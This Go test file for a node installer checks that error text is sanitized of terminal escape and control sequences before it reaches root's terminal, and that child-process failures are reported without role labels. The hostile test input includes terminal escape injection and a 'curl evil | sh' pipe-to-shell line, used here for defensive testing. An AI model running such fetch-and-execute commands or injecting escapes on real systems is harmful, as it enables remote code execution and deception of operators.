package main

import (
	"bytes"
	"errors"
	"fmt"
	"strings"
	"testing"

	"github.com/openagentcore/oac-node-install/steps/asaccount"
	"github.com/openagentcore/oac-node-install/steps/host/privsep"
	"github.com/openagentcore/oac-node-install/workflow"
)

// exitCodeError is an error that chooses its exit code.
type exitCodeError struct{ msg string }

func (e exitCodeError) Error() string { return e.msg }
func (e exitCodeError) ExitCode() int { return exitTransfer }

// Whatever a failure's text holds (a Core's or the service account's
// words among it), root's terminal gets it through the sanitizer: no
// escape, OSC or C1 sequence, newlines and tabs kept.
func TestFailuresReachTheTerminalSanitized(t *testing.T) {
	hostile := "Core says \x1b]0;owned\a\x1b[2J\u009b31m red\r\nnext:\tcurl evil | sh"
	for _, err := range []error{errors.New(hostile), exitCodeError{hostile}} {
		var out bytes.Buffer
		code := failure{prefix: prefixInstall, path: "oac-node-install", changing: true}.report(&out, err, nil)
		if code == exitOK {
			t.Fatalf("exit %d", code)
		}
		got := out.String()
		if strings.ContainsAny(got, "\x1b\a\r\u009b") {
			t.Errorf("terminal controls reached the terminal: %q", got)
		}
		if !strings.HasPrefix(got, prefixInstall+"Core says ") || !strings.Contains(got, "\nnext:\tcurl") {
			t.Errorf("the text is not kept around the controls: %q", got)
		}
	}
}

// A service-account child's failure reaches the operator in the child's
// words, without the role of the internal step that ran it, wherever it
// sits among the errors (wrapped, joined, a refusal).
func TestChildFailuresOmitTheirRole(t *testing.T) {
	listed := &privsep.ChildError{Role: asaccount.Role, Message: "Core still lists this node; remove it on the Nodes page in Web, then rerun"}
	if !strings.HasPrefix(listed.Error(), asaccount.Role+" (as oac-node): ") {
		t.Fatalf("ChildError reads %q", listed.Error())
	}
	for _, tc := range []struct {
		name string
		f    failure
		err  error
		want string
	}{
		{"uninstall refusal", failure{prefix: prefixUninstall, changing: true}, workflow.Unchanged(workflow.Refuse(listed)),
			"Uninstall failed: Core still lists this node; remove it on the Nodes page in Web, then rerun. Nothing was changed.\n"},
		{"wrapped", failure{prefix: prefixInstall, changing: true}, fmt.Errorf("register: %w; rerun the same command", listed),
			"Installation failed: register: Core still lists this node; remove it on the Nodes page in Web, then rerun; rerun the same command\n"},
		{"joined", failure{prefix: prefixStatus}, errors.Join(errors.New("read the journals"), &privsep.ChildError{Role: "status", Message: "node root unreadable"}),
			"status: read the journals\nnode root unreadable\n"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			var out bytes.Buffer
			if code := tc.f.report(&out, tc.err, nil); code != exitFailure || out.String() != tc.want {
				t.Errorf("exit %d, want %d\ngot:  %q\nwant: %q", code, exitFailure, out.String(), tc.want)
			}
		})
	}
}
